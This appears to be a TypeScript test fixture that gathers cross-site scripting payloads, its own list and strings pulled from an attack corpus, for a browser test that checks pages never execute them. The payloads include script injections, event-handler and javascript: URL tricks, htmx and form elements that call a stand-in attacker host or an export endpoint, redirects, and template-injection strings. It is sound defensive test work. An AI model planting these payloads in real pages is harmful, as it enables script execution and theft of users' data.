/**
 * Texts that would do something if a page ever took them for more than text: those of the attack corpus and our own. What
 * runs opens a dialog or asks another host, both of which `browser.ts` sees.
 */
import { globSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { isObject } from '../../src/memory/json-guards.ts';

const CORPUS = join(import.meta.dirname, '../corpora/attacks');
const MARKUP = /<\s*(?:script|img|svg|iframe|style|div|span|a|!--)|javascript:|onerror\s*=|data:text\/html/i;
const LONG_WORD_CHARS = 5_000;

const OWN: readonly string[] = [
  '<script>alert("script")</script>',
  '</textarea></title></style></script><script>alert("closed")</script>',
  '"><img src=x onerror=alert("attribute")>',
  "' autofocus onfocus=alert('focus') x='",
  '<svg onload=alert("svg")><animate onbegin=alert("animate") attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '[click here](javascript:alert("markdown")) and ![picture](https://evil.example.test/pixel.png)',
  '<a href="javascript:alert(1)">link</a> <a href="data:text/html,<script>alert(1)</script>">data</a>',
  '<div hx-get="https://evil.example.test/steal" hx-trigger="load" hx-swap="outerHTML"></div>',
  '<div hx-on:load="alert(1)" hx-vals="js:{a:alert(1)}" data-hx-get="/memory/export" hx-trigger="load"></div>',
  '</style><style>body{display:none;background:url(https://evil.example.test/style.png)}</style>',
  '<base href="https://evil.example.test/"><meta http-equiv="refresh" content="0;url=https://evil.example.test/">',
  '{{constructor.constructor("alert(1)")()}} \u0024{alert(1)} <%= alert(1) %>',
  '<form action="https://evil.example.test/"><input name=q autofocus onfocus=alert(1)><button>Save</button></form>',
  'right-to-left \u202e<script>alert("turned")</script>\u202c and zero\u200bwidth and a null\u0000byte',
  `<b>${'W'.repeat(LONG_WORD_CHARS)}</b>`,
];

export const XSS_TEXTS: readonly string[] = [...new Set([...OWN, ...textsOfCorpus()])];

/** As far as an id may hold it: printable ASCII without spaces. */
export const XSS_ID = '"><img/src=x/onerror=alert("id")>';
/** As far as a folder can be called so. */
export const XSS_NAME = '"><img src=x onerror=alert("name")>';

function textsOfCorpus(): readonly string[] {
  return globSync('*.jsonl', { cwd: CORPUS })
    .flatMap((name) => readFileSync(join(CORPUS, name), 'utf8').split('\n').filter(Boolean))
    .flatMap((line) => stringsIn(JSON.parse(line).events))
    .filter((text) => MARKUP.test(text));
}

function stringsIn(value: unknown): readonly string[] {
  if (typeof value === 'string') return [value];
  if (Array.isArray(value)) return value.flatMap(stringsIn);
  return isObject(value) ? Object.values(value).flatMap(stringsIn) : [];
}
